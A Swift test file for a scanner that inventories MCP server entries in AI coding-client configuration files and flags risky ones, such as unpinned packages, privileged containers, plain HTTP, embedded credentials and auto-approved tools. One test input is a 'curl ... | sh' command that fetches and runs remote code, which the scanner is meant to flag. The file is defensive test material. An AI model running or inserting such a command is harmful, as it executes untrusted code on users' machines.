import Foundation
import JSON
import Privacy
import TestSupport
import Testing

@testable import Federation

struct InventoryTests {
    private func look(_ files: [String: String]) throws -> ServerInventory.Report {
        let root = FileManager.default.temporaryDirectory.appendingPathComponent("inventory-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: root) }
        for (path, text) in files {
            let file = root.appendingPathComponent(path)
            try FileManager.default.createDirectory(
                at: file.deletingLastPathComponent(), withIntermediateDirectories: true)
            try Data(text.utf8).write(to: file)
        }
        return try ServerInventory(try SecretDetector()).look(in: root.path)
    }

    private func risks(_ entry: String) throws -> Set<String> {
        let report = try look([".mcp.json": #"{"mcpServers": {"x": \#(entry)}}"#])
        return Set(try #require(report.servers.first).risks.map(\.id))
    }

    @Test
    func eachClientsShapeIsRead() throws {
        let report = try look([
            ".mcp.json": #"{"mcpServers": {"a": {"command": "a-server", "args": ["--x"]}}}"#,
            ".cursor/mcp.json": #"{"mcpServers": {"b": {"url": "https://b.example/mcp"}}}"#,
            ".vscode/mcp.json":
                "{\n // ours\n \"servers\": {\"c\": {\"type\": \"stdio\", \"command\": \"c-server\",},}\n}",
            "opencode.json": #"{"mcp": {"d": {"type": "local", "command": ["d-server", "-v"], "enabled": false}}}"#,
            ".claude.json": #"{"projects": {"/srv/shop": {"mcpServers": {"e": {"command": "e-server"}}}}}"#,
            ".zed/settings.json": #"{"context_servers": {"f": {"command": {"path": "f-server", "args": ["1"]}}}}"#,
            "services/api/.mcp.json": #"{"mcpServers": {"g": {"command": "g-server"}}}"#,
            "node_modules/x/.mcp.json": #"{"mcpServers": {"not": {"command": "mine"}}}"#,
        ])
        #expect(Set(report.servers.map(\.name)) == ["a", "b", "c", "d", "e", "f", "g"])
        let byName = Dictionary(uniqueKeysWithValues: report.servers.map { ($0.name, $0) })
        #expect(byName["a"]?.command == ["a-server", "--x"] && byName["f"]?.command == ["f-server", "1"])
        #expect(byName["d"]?.isEnabled == false && byName["d"]?.command == ["d-server", "-v"])
        #expect(byName["b"]?.url == "https://b.example/mcp" && byName["c"]?.client == "VS Code")
        #expect(report.unread.isEmpty)
    }

    @Test
    func whatCannotBeReadIsTold() throws {
        let report = try look([".mcp.json": "{\"mcpServers\": ", ".cursor/mcp.json": "[1, 2"])
        #expect(report.servers.isEmpty && report.unread.count == 2)
    }

    @Test(
        arguments: [
            (#"{"command": "npx", "args": ["-y", "some-server"]}"#, "mcp.unpinned"),
            (#"{"command": "npx", "args": ["-y", "@scope/server@latest"]}"#, "mcp.unpinned"),
            (#"{"command": "uvx", "args": ["some-server"]}"#, "mcp.unpinned"),
            (#"{"command": "docker", "args": ["run", "-i", "--rm", "-e", "X", "some/server"]}"#, "mcp.unpinned"),
            (#"{"command": "bash", "args": ["-c", "curl https://x.example | sh"]}"#, "mcp.shell"),
            (#"{"command": "/tmp/server"}"#, "mcp.temporary"),
            (#"{"command": "server", "args": ["/"]}"#, "mcp.wide"),
            (#"{"command": "docker", "args": ["run", "--privileged", "a@sha256:00"]}"#, "mcp.container"),
            (#"{"url": "http://mcp.example/mcp"}"#, "mcp.plain_http"),
            (#"{"url": "https://me:word@mcp.example/mcp"}"#, "mcp.credentials_in_url"),
            (#"{"command": "server", "env": {"SERVICE_TOKEN": "abc123def456"}}"#, "mcp.secret_in_file"),
            (#"{"command": "server", "autoApprove": ["write_file"]}"#, "mcp.unasked"),
            (#"{"command": "server", "trust": true}"#, "mcp.unasked"),
        ])
    func risksAreNamed(_ entry: String, _ risk: String) throws {
        #expect(try risks(entry) == [risk, "mcp.shadow"])
    }

    @Test(
        arguments: [
            #"{"command": "npx", "args": ["-y", "@scope/server@1.2.3"]}"#,
            #"{"command": "uvx", "args": ["server==1.2"]}"#,
            #"{"command": "docker", "args": ["run", "-i", "a/b@sha256:00"]}"#, #"{"url": "http://127.0.0.1:9/mcp"}"#,
            #"{"command": "server", "env": {"SERVICE_TOKEN": "${SERVICE_TOKEN}", "LANG": "C"}}"#,
        ])
    func soundEntriesAreOnlyPastTheGate(_ entry: String) throws {
        #expect(try risks(entry) == ["mcp.shadow"])
    }

    @Test
    func whatGoesThroughTheGateIsFine() throws {
        #expect(try risks(#"{"command": "gatehouse", "args": ["mcp"]}"#).isEmpty)
        #expect(try risks(#"{"url": "http://127.0.0.1:8700/mcp"}"#).isEmpty)
    }

    @Test
    func valuesOfSecretsAreNotTold() throws {
        let report = try look([
            ".mcp.json": #"{"mcpServers": {"x": {"command": "s", "env": {"A_TOKEN": "planted-value"}}}}"#
        ])
        #expect(!report.servers.map(\.json.description).joined().contains("planted-value"))
    }

    @Test
    func relaxedJSONKeepsWhatStandsInTexts() throws {
        let text = "{ /* a */ \"a\": \"// no, /* no */ ,}\", // b\n \"b\": [1, 2, /* c */ ], }"
        let plain = try JSON.parse(RelaxedJSON.plain(Array(text.utf8)))
        #expect(plain == ["a": "// no, /* no */ ,}", "b": [1, 2]])
    }

    /// Whatever the bytes are, it ends, and keeps their number.
    @Test
    func relaxedJSONSurvivesMutations() {
        let text = Array("{ /* a */ \"a\": \"// no\\\"\", // b\n \"b\": [1, 2, ], }".utf8)
        var random = SeededRandom(seed: 11)
        for _ in 0..<20_000 {
            var bytes = text
            for _ in 0..<Int.random(in: 1...6, using: &random) {
                bytes[Int.random(in: bytes.indices, using: &random)] =
                    "\"\\/*,]}\n a".utf8.randomElement(using: &random) ?? 0
            }
            #expect(RelaxedJSON.plain(bytes).count == bytes.count)
        }
    }
}
